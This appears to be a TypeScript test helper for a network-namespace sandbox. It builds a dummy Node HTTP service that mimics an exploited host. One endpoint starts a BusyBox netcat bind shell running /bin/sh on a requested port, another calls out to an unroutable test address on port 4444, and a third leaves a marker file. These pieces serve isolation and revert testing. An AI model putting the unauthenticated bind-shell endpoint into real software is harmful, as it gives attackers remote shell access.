/**
 * What the netns tests and the revert benchmark run as a dummy: a lower directory holding a few
 * lines of node (an HTTP service on 8080 that can leave a file behind, read it back, call out, and
 * start a BusyBox bind shell, as an exploited service would),
 * a profile for it, and the check that says whether this machine can run namespaced dummies.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { validateProfile, type Profile } from '../../src/config/index.ts';
import { netnsUnavailableReason } from '../../src/drivers/index.ts';

export const SERVICE_PORT = 8_080;
/** where /egress makes the dummy connect: TEST-NET-2, never routed anywhere (and a dummy has no route anyway) */
export const EGRESS_TARGET = { address: '198.51.100.7', port: 4_444 };

const SERVICE = String.raw`
const http = require('node:http');
const fs = require('node:fs');
const net = require('node:net');
const { spawn } = require('node:child_process');
http.createServer((request, response) => {
  const shell = /^\/shell\?port=(\d+)$/.exec(request.url);
  if (shell) {
    spawn('/bin/busybox', ['nc', '-ll', '-p', shell[1], '-e', '/bin/sh'], { detached: true, stdio: 'ignore' }).unref();
    return response.end('shell started');
  }
  if (request.url === '/mark' && request.method === 'POST') { fs.writeFileSync('/var/mark', 'x'); return response.end('marked'); }
  if (request.url === '/mark') return response.end(fs.existsSync('/var/mark') ? 'mark:yes' : 'mark:no');
  if (request.url === '/egress') {
    const socket = net.connect(${EGRESS_TARGET.port}, '${EGRESS_TARGET.address}', () => socket.end('hello from inside'));
    socket.on('error', () => {});
    return response.end('called out');
  }
  response.end('hello from the dummy');
}).listen(${SERVICE_PORT});
`;

/** Why the netns tests cannot run here, or null. */
export function netnsSkipReason(): string | null {
  const reason = netnsUnavailableReason();
  return reason === null ? null : `netns tests skipped: ${reason}`;
}

/** A lower directory with the service at /srv/service.cjs; `extra` files go beside it. */
export function makeLowerDir(source = SERVICE, extra: Record<string, string> = {}): { dir: string; remove(): void } {
  const dir = mkdtempSync(join(tmpdir(), 'crashtest-lower-'));
  mkdirSync(join(dir, 'srv'), { recursive: true });
  mkdirSync(join(dir, 'var'), { recursive: true });
  writeFileSync(join(dir, 'srv', 'service.cjs'), source);
  for (const [name, text] of Object.entries(extra)) writeFileSync(join(dir, 'srv', name), text);
  return { dir, remove: () => rmSync(dir, { recursive: true, force: true }) };
}

export const SERVICE_COMMAND = 'exec /usr/bin/node /srv/service.cjs';

/** A Linux profile of this machine's architecture with one HTTP service on 8080. */
export function netnsProfile(id = 'netns-node-http', extra: Partial<Record<'applications' | 'vulnerabilities', unknown[]>> = {}): Profile {
  return validateProfile(
    {
      id,
      family: 'netns-node',
      description: 'Debian 12 with a node HTTP service, run for real in a network namespace',
      os: { kind: 'linux', product: 'debian', name: 'Debian GNU/Linux', version: '12' },
      arch: process.arch === 'arm64' ? 'arm' : 'x64',
      roles: ['server'],
      applications: extra.applications ?? [{ name: 'node', version: process.versions.node }],
      services: [{ proto: 'tcp', port: SERVICE_PORT, name: 'http', product: 'node http' }],
      fingerprint: { initialTtl: 64, tcpWindowSizes: [64_240], tcpOptionOrder: ['mss', 'sackOK', 'timestamp', 'nop', 'wscale'], smbDialects: [], httpServerHeaders: [] },
      vulnerabilities: extra.vulnerabilities ?? [],
    },
    `netns test profile ${id}`,
  );
}
